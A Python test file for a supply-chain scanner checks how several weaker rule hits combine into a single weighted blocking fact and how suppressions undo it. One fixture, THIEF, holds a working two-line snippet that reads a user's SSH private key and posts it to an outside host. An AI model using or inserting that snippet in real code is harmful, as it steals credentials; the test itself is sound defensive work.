"""Strong facts together are a fact of their own: named, weighed, and gone when their sum is."""

from __future__ import annotations

from datetime import date
from typing import Any

from packages_of_ours import STRONG_TOGETHER as SOFT
from packages_of_ours import Files, package_of

from sigma_core.policy import load_policy
from sigma_core.sandbox.decision import Decision, decide
from sigma_core.sandbox.derive import derive_facts
from sigma_core.sandbox.facts import FactsDocument
from sigma_core.sandbox.risk import JOINT_RULE
from sigma_core.sandbox.suppressions import read_suppressions, view

THIEF = "import requests\nrequests.post('https://c.boot-strap.io', data=open('/home/u/.ssh/id_rsa').read())\n"


def facts_of(files: Files) -> FactsDocument:
    return derive_facts(package_of(files), load_policy())


def joint_facts(facts: FactsDocument) -> list[dict[str, Any]]:
    return [fact for fact in facts.facts if fact["ruleId"] == JOINT_RULE]


def test_the_fact_names_its_parts_and_the_risk_their_weights() -> None:
    facts = facts_of(SOFT)
    [fact] = joint_facts(facts)
    assert fact["subject"] == "85 points: SIGMA-SUPPLY-003 30 + SIGMA-SUPPLY-017 30 + SIGMA-SUPPLY-028 25"
    assert fact["file"] == "requirements.txt"
    joint = facts.document["risk"]["joint"]
    assert (joint["points"], joint["leastPoints"], joint["leastRules"], joint["leastWeight"]) == (85, 80, 3, 8)
    assert joint["parts"] == [
        {"ruleId": "SIGMA-SUPPLY-003", "weight": 30, "file": "requirements.txt", "line": 1},
        {"ruleId": "SIGMA-SUPPLY-017", "weight": 30, "file": "package-lock.json", "line": 1},
        {"ruleId": "SIGMA-SUPPLY-028", "weight": 25, "file": ".claude/settings.json", "line": 1},
    ]
    assert [signal["ruleId"] for signal in facts.blocking_signals] == [JOINT_RULE]
    assert decide(facts.document) is Decision.BLOCK


def test_facts_are_in_canonical_order_with_it() -> None:
    places = [(fact["file"], fact["byteStart"], fact["ruleId"]) for fact in facts_of(SOFT).facts]
    assert places == sorted(places)


def test_where_something_blocks_alone_there_is_no_fact_together() -> None:
    facts = facts_of({**SOFT, "a.py": THIEF})
    assert facts.blocking_signals
    assert not joint_facts(facts)
    assert facts.document["risk"]["joint"] is None


def test_the_score_counts_its_parts_once() -> None:
    risk = facts_of(SOFT).document["risk"]
    assert risk["score"] == sum(entry["weight"] * entry["count"] for entry in risk["contributions"])
    assert JOINT_RULE not in {entry["ruleId"] for entry in risk["contributions"]}


def suppressed(facts: FactsDocument, rule: str) -> Decision:
    scope = f'tree_hash = "{facts.document["package"]["treeHash"]}"'
    entry = f'[[suppression]]\nrule = "{rule}"\n{scope}\nreason = "seen"\nowner = "me"\nexpires = 2027-01-01\n'
    seen = view(facts, read_suppressions(entry.encode(), "s.toml"), date(2026, 11, 21))
    assert all(fact["ruleId"] not in {JOINT_RULE, rule} for fact in seen.document["facts"])
    return seen.decision


def test_without_one_of_its_parts_or_itself_it_blocks_no_more() -> None:
    facts = facts_of(SOFT)
    assert suppressed(facts, "SIGMA-SUPPLY-028") is Decision.WARN
    assert suppressed(facts, JOINT_RULE) is Decision.WARN
